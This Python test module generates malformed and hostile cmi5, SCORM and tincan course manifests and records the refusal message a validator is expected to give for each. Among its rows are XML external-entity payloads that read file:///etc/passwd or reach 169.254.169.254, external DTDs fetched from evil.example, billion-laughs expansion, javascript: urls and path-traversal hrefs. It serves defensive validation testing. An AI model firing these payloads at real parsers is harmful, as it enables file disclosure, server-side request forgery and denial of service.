"""Manifests that must be refused (or are inert, where the words are empty): (what, bytes, words of the refusal)."""

from collections.abc import Iterator

from tests.courses.manifests import (
    CMI5,
    ID,
    activity,
    au,
    block,
    cmi5,
    item,
    objectives,
    resource,
    resource2004,
    scorm12,
    scorm2004,
    texts,
    tincan,
)

Row = tuple[str, bytes, str]
HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n'
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


def cmi5_cases() -> Iterator[Row]:
    """Course structures inside a ZIP that holds index.html: the refusals of packages.md 1.2 and 7, and of XML itself."""
    for what, text, says in (*_xml(), *_schema(), *_ids(), *_urls()):
        yield what, text.encode(), says
    yield "GBK bytes that are none", HEAD.encode() + b"<x>\x81\x20\xff\xff</x>", "读不出来"
    yield "UTF-7", b'<?xml version="1.0" encoding="UTF-7"?>+ADw-x/+AD4-', "不是完整的 XML"
    yield "binary", bytes(range(256)) * 4, "读不"
    yield "UTF-16 cut in half", cmi5().encode("utf-16")[:301], "读不"


def _xml() -> Iterator[Row | tuple[str, str, str]]:
    doctypes = {
        "a file": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        "a host": '<!DOCTYPE x [<!ENTITY a SYSTEM "http://169.254.169.254/">]>',
        "a parameter entity": '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://evil.example/x.dtd"> %a;]>',
        "billion laughs": f'<!DOCTYPE x [<!ENTITY l0 "lol">{LAUGHS}]>',
        "a quadratic one": f'<!DOCTYPE x [<!ENTITY a "{"a" * 50_000}">]>',
    }
    for what, doctype in doctypes.items():
        yield f"entity: {what}", cmi5(head=HEAD + doctype).replace("粤菜", "&a;"), "实体"
    yield "DOCTYPE that declares", cmi5(head=HEAD + "<!DOCTYPE x [<!ATTLIST au id CDATA 'x'>]>"), "DOCTYPE"
    yield "DOCTYPE without an end", HEAD + "<!DOCTYPE x ", "DOCTYPE"
    yield "an entity that nobody declared", cmi5().replace("粤菜", "&nbsp;"), "&nbsp;"
    yield (
        "an external DTD for an entity",
        cmi5(head=HEAD + '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">').replace("粤菜", "&a;"),
        "&a;",
    )
    yield (
        "300 deep",
        cmi5("".join(f'<block id="{ID}/b/{n}">{texts("x")}' for n in range(300)) + au() + "</block>" * 300),
        "太深",
    )
    yield "20,000 deep", HEAD + "<a>" * 20_000 + "</a>" * 20_000, "太深"
    yield "a million elements", cmi5(tail="<x/>" * 1_000_000), "多得不正常"
    yield "a million attributes", HEAD + "<x " + " ".join(f"a{n}=''" for n in range(500_000)) + "/>", "多得不正常"
    yield "cut off", cmi5()[:-30], "不是完整的 XML"
    yield "two roots", cmi5() + "<x/>", "不是完整的 XML"
    yield "a letter that XML has not", cmi5().replace("粤菜", "粤\x0b菜"), "不是完整的 XML"
    yield "no text", "", "空的"
    yield "words", "只是一句话", "不是完整的 XML"
    yield "a page", "<html><body>x</body></html>", "不是 <courseStructure>"
    yield "the draft's namespace", cmi5(space="http://www.adlnet.gov/cmi5/v1/CourseStructure.xsd"), "旧草案"
    yield "no namespace", cmi5().replace(f'xmlns="{CMI5}"', ""), "命名空间"
    yield "another namespace", cmi5(space="urn:x"), "命名空间"


def _schema() -> Iterator[tuple[str, str, str]]:
    yield "no course", cmi5(course=""), "缺 <course>"
    yield "no AU", cmi5(""), "缺 <au> 或 <block>"
    yield "an empty block", cmi5(block("")), "缺 <au> 或 <block>"
    yield "no title", cmi5(au().replace(texts("第 1 课"), "")), "缺 <title>"
    yield "no description", cmi5(au().replace("description>", "about>")), "不该在这里"
    yield "description before title", cmi5(course=f'<course id="{ID}"><description/><title/></course>'), "不该在这里"
    yield "no url", cmi5(au().replace("<url>index.html</url>", "")), "缺 <url>"
    yield "two urls", cmi5(au(after="<url>index.html</url>")), "写了不止一个"
    yield "no id", cmi5(au().replace(f'id="{ID}/au/1"', "")), "没有写 id"
    yield "an empty id", cmi5(au(identifier=" ")), "没有写 id"
    yield "an element of its own without a namespace", cmi5(au(after='<mine xmlns="">x</mine>')), "不是 cmi5 的内容"
    yield "an unknown element", cmi5(au(after="<price>3</price>")), "不该在这里"
    yield "an unknown attribute", cmi5(au(attributes='price="3"')), "不该有属性"
    yield "a vendor's element too early", cmi5('<v:x xmlns:v="urn:v"/>' + au()), "不该在这里"
    yield (
        "a title of bare words",
        cmi5(course=f'<course id="{ID}"><title>x</title><description>y</description></course>'),
        "缺 <langstring>",
    )
    yield "an element inside words", cmi5(au().replace("第 1 课</lang", "第<b/>课</lang")), "不该在这里"
    yield "no language", cmi5(course=f'<course id="{ID}">{texts("x", "中文")}</course>'), "语言代码"
    yield "empty objectives", cmi5(listed="<objectives/>"), "缺 <objective>"
    for score in ("1.5", "-0.1", "80", "abc", "NaN", "1e-1", "", "Infinity"):
        yield f"masteryScore {score!r}", cmi5(au(attributes=f'masteryScore="{score}"')), "masteryScore"
    yield "moveOn", cmi5(au(attributes='moveOn="Done"')), "moveOn"
    yield "launchMethod", cmi5(au(attributes='launchMethod="Popup"')), "launchMethod"


def _ids() -> Iterator[tuple[str, str, str]]:
    yield "a course id that is not absolute", cmi5(identifier="example.org/course"), "不是完整的标识"
    yield "a block id that is not absolute", cmi5(block(au(), identifier="block-1")), "不是完整的标识"
    yield "an AU id that is not absolute", cmi5(au(identifier="/au/1")), "不是完整的标识"
    yield "an objective id that is not absolute", cmi5(listed=objectives("goal")), "不是完整的标识"
    yield (
        "a reference that is not absolute",
        cmi5(au(inside='<objectives><objective idref="goal"/></objectives>')),
        "不是完整的标识",
    )
    yield "an id with a blank", cmi5(identifier="https://example.org/a b"), "不是完整的标识"
    yield "two blocks of one id", cmi5(block(au(1), 1) + block(au(2), 1)), "用了两次"
    yield "a block in a block of one id", cmi5(block(block(au(1), 1), 1)), "用了两次"
    yield "two objectives of one id", cmi5(listed=objectives(f"{ID}/o", f"{ID}/o")), "用了两次"
    yield "two AUs of one id", cmi5(au(1) + au(1)), "用了两次"
    yield "two AUs of one id but for blanks", cmi5(au(1) + au(identifier=f"  {ID}/au/1 ")), "用了两次"


def _urls() -> Iterator[tuple[str, str, str]]:
    yield "a url with a blank", cmi5(au(url="http://example.com index.html")), "空格"
    yield "a url with a broken escape", cmi5(au(url="index.html?a=%zz")), "“%”"
    yield "a url with a quote", cmi5(au(url='index.html?"')), "不能这样写"
    yield "a url with a backslash", cmi5(au(url="a\\index.html")), "不能这样写"
    yield "an empty url", cmi5(au(url="  ")), "url 是空的"
    for name in ("endpoint", "fetch", "actor", "registration", "activityId"):
        yield f"a url that has {name}", cmi5(au(url=f"index.html?x=1&{name}=y")), name
    yield "a url that has an escaped endpoint", cmi5(au(url="index.html?%65ndpoint=y")), "endpoint"
    yield "a file that is not there", cmi5(au(url="other.html")), "不在包里"
    for url in ("/index.html", "../index.html", "a/../../index.html", "//example.org/x", "%2e%2e/index.html"):
        yield f"a url out of the package: {url}", cmi5(au(url=url)), "外面"
    for url in (
        "javascript:alert(1)",
        "data:text/html,x",
        "file:///etc/passwd",
        "ftp://example.org/x",
        "https://",
        "https://a@b/",
        "http://[x]/",
        "https://x:99999/",
    ):
        yield f"a url that is none: {url}", cmi5(au(url=url)), "不是能打开的网址"
    yield "no url but a query", cmi5(au(url="?a=1")), "不在包里"


def bare_cases() -> Iterator[Row]:
    """Course structures that come without a package."""
    for url in (
        "index.html",
        "path/1/index.html",
        "index.html?abc=def",
        "path/1/index.html?abc=def",
        "/index.html",
        "//host/x",
    ):
        yield f"a relative url {url}", cmi5(au(url=url)).encode(), "相对路径"
    yield "a manifest of SCORM", scorm12().encode(), "courseStructure"
    yield "a tincan.xml", tincan().encode(), "courseStructure"
    yield "an entity", cmi5(au(url="https://example.org/"), head='<!DOCTYPE x [<!ENTITY a "b">]>').encode(), "实体"


def scorm_cases() -> Iterator[Row]:
    """Manifests of SCORM beside an index.html."""
    for what, text, says in (*_shapes(), *_places()):
        yield what, text.encode(), says


def _shapes() -> Iterator[tuple[str, str, str]]:
    yield (
        "another root",
        scorm12().replace("<manifest ", "<package ").replace("</manifest>", "</package>"),
        "不是 <manifest>",
    )
    yield "nothing to open", scorm12(items="", resources=""), "没有一个能打开的课时"
    yield "neither items nor resources", scorm12(organizations="", resources=""), "没有一个能打开的课时"
    yield "only headings", scorm12(items=item(reference=None)), "没有一个能打开的课时"
    yield "a resource that is missing", scorm12(items=item(reference="nowhere")), "找不到"
    yield "an item that refers to itself", scorm12(items=item(reference="item1")), "找不到"
    yield "two items of one name", scorm12(items=item(1) + item(1)), "写了两次"
    yield "two resources of one name", scorm12(resources=resource() + resource()), "写了两次"
    yield "an item without a name", scorm12(items=item().replace('identifier="item1"', "")), "没有写 identifier"
    yield "a resource without an address", scorm12(resources=resource(href="")), "没有写 href"
    yield "Common Cartridge", scorm12().replace("ADL SCORM", "IMS Common Cartridge"), "Common Cartridge"
    yield "QTI", scorm12().replace("ADL SCORM", "QTIv2"), "QTI"
    yield "a DTD", scorm12(head='<!DOCTYPE manifest [<!ENTITY a SYSTEM "file:///etc/passwd">]>'), "实体"
    deep = "".join(f'<item identifier="d{n}"><title>x</title>' for n in range(300)) + "</item>" * 300
    yield "300 items deep", scorm12(items=deep), "太深"
    yield "2004 with a missing resource", scorm2004(items=item(reference="x")), "找不到"
    yield "2004 without the file", scorm2004(resources=resource2004(href="a.html")), "不在包里"


def _places() -> Iterator[tuple[str, str, str]]:
    for href in ("javascript:alert(1)", "data:text/html,x", "file:///etc/passwd", "C:\\x.html"):
        yield f"href {href}", scorm12(resources=resource(href=href)), "不是包里的文件"
    for href in ("https://example.org/x.html", "http://example.org/", "//example.org/x"):
        yield f"href {href}", scorm12(resources=resource(href=href)), "别的网站"
    for href in ("../index.html", "/index.html", "a/../../index.html", "..\\index.html", "%2e%2e/index.html"):
        yield f"href {href}", scorm12(resources=resource(href=href)), "外面"
    yield "href to nothing", scorm12(resources=resource(href="other.html")), "不在包里"
    yield "xml:base abroad", scorm12(attributes='xml:base="https://example.org/"'), "别的网站"
    yield "xml:base out of the package", scorm12(attributes='xml:base="../../"'), "外面"
    yield "xml:base of a script", scorm12(resources=resource(attributes='xml:base="javascript:"')), "不是包里的文件"


def tincan_cases() -> Iterator[Row]:
    """tincan.xml beside an index.html."""
    rows = (
        ("another root", "<x/>", "不是 <tincan>"),
        ("nothing to launch", tincan(activity(launch=None)), "没有一个能打开"),
        ("no activity", tincan(""), "没有一个能打开"),
        ("a file that is missing", tincan(activity(launch="other.html")), "不在包里"),
        ("a way out", tincan(activity(launch="../index.html")), "不是包里的文件"),
        ("a script", tincan(activity(launch="javascript:alert(1)")), "不是能打开的网址"),
        ("an id that is not absolute", tincan(activity(identifier="course")), "不是完整的标识"),
        ("two of one id", tincan(activity(1) + activity(1)), "用了两次"),
        ("an endpoint of its own", tincan(activity(launch="index.html?endpoint=https://evil.example/")), "endpoint"),
    )
    for what, text, says in rows:
        yield what, text.encode(), says
